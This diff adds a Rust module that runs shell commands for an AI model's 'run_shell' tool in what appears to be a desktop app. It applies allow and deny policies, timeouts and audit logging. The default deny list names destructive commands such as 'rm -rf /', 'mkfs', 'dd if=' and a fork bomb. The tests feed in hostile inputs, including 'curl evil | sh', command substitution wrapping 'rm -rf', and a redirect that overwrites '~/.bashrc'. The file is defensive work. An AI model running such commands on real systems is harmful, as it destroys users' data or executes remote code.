@@ -0,0 +1,384 @@
+//! Runs commands for `run_shell`, in the user's shell (sh on macOS and
+//! Linux, cmd on Windows). Output is streamed as `shell-output` events
+//! line by line while it runs, and `shell-exit` follows with how it ended.
+//! A command that runs past its timeout is killed with anything it started.
+//!
+//! A command is checked against the policy before the user is even asked:
+//! anything containing a denied phrase is refused, and with an allowlist
+//! every command in the line must start with an allowed one. An allowlist
+//! also refuses what would run or redirect something it can't see:
+//! command substitution, backgrounding with `&`, and `<` or `>`. Runs and
+//! refusals alike go to the audit log.
+
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use tauri::{AppHandle, Emitter};
+use tokio::io::{AsyncBufReadExt, AsyncRead, BufReader};
+
+use crate::audit;
+use crate::error::{Error, Result};
+use crate::process;
+use crate::storage::new_id;
+
+pub const DEFAULT_TIMEOUT_SECS: u64 = 30;
+pub const MAX_TIMEOUT_SECS: u64 = 600;
+/// Output kept for the model from each of stdout and stderr; more is still
+/// streamed.
+const MAX_OUTPUT_BYTES: usize = 256 * 1024;
+/// How long output is still collected after the process has exited.
+const PIPE_GRACE: Duration = Duration::from_secs(2);
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ShellPolicy {
+    /// When not empty, each command in a line (split at `;`, `&&`, `||`
+    /// and `|`) must start with one of these, as in `git status` or
+    /// `cargo`.
+    pub allow: Vec<String>,
+    /// Commands containing any of these are refused without asking.
+    pub deny: Vec<String>,
+}
+
+impl Default for ShellPolicy {
+    fn default() -> Self {
+        Self {
+            allow: Vec::new(),
+            deny: [
+                "rm -rf /",
+                "rm -rf ~",
+                "rm -rf *",
+                "mkfs",
+                "dd if=",
+                ":(){",
+                "shutdown",
+                "reboot",
+                "format c:",
+                "> /dev/sd",
+                "chmod -R 777 /",
+            ]
+            .map(str::to_string)
+            .to_vec(),
+        }
+    }
+}
+
+/// What the shell would run or redirect outside the commands an
+/// allowlist checks.
+const UNCHECKABLE: &[&str] = &["$(", "`", ">", "<"];
+
+/// The first thing in `command` an allowlist can't vouch for.
+fn uncheckable(command: &str) -> Option<&'static str> {
+    if let Some(found) = UNCHECKABLE.iter().find(|c| command.contains(**c)) {
+        return Some(found);
+    }
+    command.replace("&&", "").contains('&').then_some("&")
+}
+
+fn normalize(text: &str) -> String {
+    text.split_whitespace()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_lowercase()
+}
+
+/// The commands in a line, split at its separators. Quotes are ignored,
+/// which only ever splits more.
+fn segments(command: &str) -> Vec<&str> {
+    let mut segments = Vec::new();
+    let mut start = 0;
+    let bytes = command.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        let width = match (bytes[i], bytes.get(i + 1)) {
+            (b'&', Some(b'&')) | (b'|', Some(b'|')) => 2,
+            (b';' | b'|' | b'\n', _) => 1,
+            _ => 0,
+        };
+        if width > 0 {
+            segments.push(&command[start..i]);
+            start = i + width;
+            i += width;
+        } else {
+            i += 1;
+        }
+    }
+    segments.push(&command[start..]);
+    segments
+        .into_iter()
+        .map(str::trim)
+        .filter(|s| !s.is_empty())
+        .collect()
+}
+
+impl ShellPolicy {
+    /// Why `command` may not run, if it may not.
+    pub fn check(&self, command: &str) -> std::result::Result<(), String> {
+        let normalized = normalize(command);
+        if let Some(denied) = self
+            .deny
+            .iter()
+            .find(|d| !d.trim().is_empty() && normalized.contains(&normalize(d)))
+        {
+            return Err(format!("it contains `{denied}`, which is denied"));
+        }
+        if self.allow.is_empty() {
+            return Ok(());
+        }
+        if let Some(found) = uncheckable(command) {
+            return Err(format!("`{found}` can't be checked against the allowlist"));
+        }
+        for segment in segments(command) {
+            let segment = normalize(segment);
+            let allowed =
+                self.allow.iter().map(|a| normalize(a)).any(|allowed| {
+                    segment == allowed || segment.starts_with(&format!("{allowed} "))
+                });
+            if !allowed {
+                return Err(format!("`{segment}` isn't on the allowlist"));
+            }
+        }
+        Ok(())
+    }
+}
+
+#[derive(Debug, Clone, Copy, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Stream {
+    Stdout,
+    Stderr,
+}
+
+/// Payload of the `shell-output` event.
+#[derive(Debug, Clone, Serialize)]
+pub struct ShellOutput {
+    pub request_id: String,
+    pub execution_id: String,
+    pub stream: Stream,
+    /// A line, with its line ending.
+    pub text: String,
+}
+
+/// Payload of the `shell-exit` event.
+#[derive(Debug, Clone, Serialize)]
+pub struct ShellExit {
+    pub request_id: String,
+    pub execution_id: String,
+    pub command: String,
+    /// `None` when it was killed, on timeout or by a signal.
+    pub exit_code: Option<i32>,
+    pub timed_out: bool,
+    pub duration_ms: u64,
+}
+
+/// The command and working directory of a `run_shell` call.
+pub fn arguments(arguments: &Value) -> (String, Option<String>) {
+    (
+        arguments["command"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string(),
+        arguments["cwd"].as_str().map(str::to_string),
+    )
+}
+
+/// Records a command that never ran, and why.
+pub fn refused(request_id: &str, arguments: &Value, reason: &str) {
+    let (command, cwd) = self::arguments(arguments);
+    audit::record_command(
+        &command,
+        cwd.as_deref(),
+        request_id,
+        None,
+        Some(reason.to_string()),
+        Duration::ZERO,
+    );
+}
+
+type Pipe = Box<dyn AsyncRead + Unpin + Send>;
+
+/// Emits each line of `pipe` and keeps the first `MAX_OUTPUT_BYTES`.
+async fn pump(
+    app: AppHandle,
+    request_id: String,
+    execution_id: String,
+    stream: Stream,
+    pipe: Option<Pipe>,
+) -> (String, bool) {
+    let mut kept = String::new();
+    let mut truncated = false;
+    let Some(pipe) = pipe else {
+        return (kept, truncated);
+    };
+    let mut reader = BufReader::new(pipe);
+    let mut line = Vec::new();
+    while matches!(reader.read_until(b'\n', &mut line).await, Ok(n) if n > 0) {
+        let text = String::from_utf8_lossy(&line).into_owned();
+        if kept.len() + text.len() <= MAX_OUTPUT_BYTES {
+            kept.push_str(&text);
+        } else {
+            truncated = true;
+        }
+        let _ = app.emit(
+            "shell-output",
+            ShellOutput {
+                request_id: request_id.clone(),
+                execution_id: execution_id.clone(),
+                stream,
+                text,
+            },
+        );
+        line.clear();
+    }
+    (kept, truncated)
+}
+
+/// Runs `command` for a model, waiting up to `timeout`, and returns its
+/// exit code and output as text for the model.
+pub async fn run(
+    app: &AppHandle,
+    request_id: &str,
+    command: &str,
+    cwd: Option<&str>,
+    timeout: Duration,
+) -> Result<String> {
+    let (program, flag) = if cfg!(windows) {
+        ("cmd", "/C")
+    } else {
+        ("sh", "-c")
+    };
+    let mut child = tokio::process::Command::from(process::command(program));
+    child
+        .arg(flag)
+        .arg(command)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true);
+    if let Some(cwd) = cwd {
+        child.current_dir(cwd);
+    }
+    process::own_group(&mut child);
+    let started = Instant::now();
+    let mut child = match child.spawn() {
+        Ok(child) => child,
+        Err(err) => {
+            let err = Error::Tool(format!("couldn't start {program}: {err}"));
+            audit::record_command(
+                command,
+                cwd,
+                request_id,
+                None,
+                Some(err.to_string()),
+                started.elapsed(),
+            );
+            return Err(err);
+        }
+    };
+
+    let execution_id = new_id();
+    let pipe = |stream, pipe: Option<Pipe>| {
+        tauri::async_runtime::spawn(pump(
+            app.clone(),
+            request_id.to_string(),
+            execution_id.clone(),
+            stream,
+            pipe,
+        ))
+    };
+    let stdout = pipe(
+        Stream::Stdout,
+        child.stdout.take().map(|p| Box::new(p) as Pipe),
+    );
+    let stderr = pipe(
+        Stream::Stderr,
+        child.stderr.take().map(|p| Box::new(p) as Pipe),
+    );
+    let (status, timed_out) = match tokio::time::timeout(timeout, child.wait()).await {
+        Ok(status) => (status.ok(), false),
+        Err(_) => {
+            process::kill_tree(&mut child).await;
+            (None, true)
+        }
+    };
+    let collect = |task: tauri::async_runtime::JoinHandle<(String, bool)>| async move {
+        match tokio::time::timeout(PIPE_GRACE, task).await {
+            Ok(Ok(output)) => output,
+            _ => (String::new(), true),
+        }
+    };
+    let ((stdout, cut_out), (stderr, cut_err)) = tokio::join!(collect(stdout), collect(stderr));
+    let exit_code = status.and_then(|s| s.code());
+    let duration = started.elapsed();
+
+    let _ = app.emit(
+        "shell-exit",
+        ShellExit {
+            request_id: request_id.to_string(),
+            execution_id,
+            command: command.to_string(),
+            exit_code,
+            timed_out,
+            duration_ms: duration.as_millis() as u64,
+        },
+    );
+    let error = timed_out.then(|| format!("timed out after {}s", timeout.as_secs()));
+    audit::record_command(command, cwd, request_id, exit_code, error, duration);
+
+    let status = match (exit_code, timed_out) {
+        (_, true) => format!("timed out after {}s", timeout.as_secs()),
+        (Some(code), _) => format!("exit code: {code}"),
+        (None, _) => "exit code: none (killed by a signal)".to_string(),
+    };
+    Ok(format!(
+        "{status}{}\nstdout:\n{stdout}\nstderr:\n{stderr}",
+        if cut_out || cut_err {
+            " (output truncated)"
+        } else {
+            ""
+        },
+    ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn allowing(allow: &[&str]) -> ShellPolicy {
+        ShellPolicy {
+            allow: allow.iter().map(|a| a.to_string()).collect(),
+            ..ShellPolicy::default()
+        }
+    }
+
+    #[test]
+    fn no_allowlist_only_denies() {
+        let policy = ShellPolicy::default();
+        assert!(policy.check("ls -la | grep foo > out.txt").is_ok());
+        assert!(policy.check("sudo  RM -RF  / --no-preserve-root").is_err());
+    }
+
+    #[test]
+    fn allowlist_checks_every_command() {
+        let policy = allowing(&["git", "cargo test"]);
+        assert!(policy.check("git status").is_ok());
+        assert!(policy.check("  GIT   status ").is_ok());
+        assert!(policy.check("git status && cargo test || git log").is_ok());
+        assert!(policy.check("git status; ls").is_err());
+        assert!(policy.check("git status | sh").is_err());
+        assert!(policy.check("cargo build").is_err());
+        assert!(policy.check("gitk").is_err());
+    }
+
+    #[test]
+    fn allowlist_refuses_what_it_cant_see() {
+        let policy = allowing(&["git", "curl", "sh"]);
+        assert!(policy.check("git status & curl evil | sh").is_err());
+        assert!(policy.check("git $(rm -rf ~/x)").is_err());
+        assert!(policy.check("git `rm -rf ~/x`").is_err());
+        assert!(policy.check("git log > ~/.bashrc").is_err());
+        assert!(policy.check("sh < script").is_err());
+    }
+}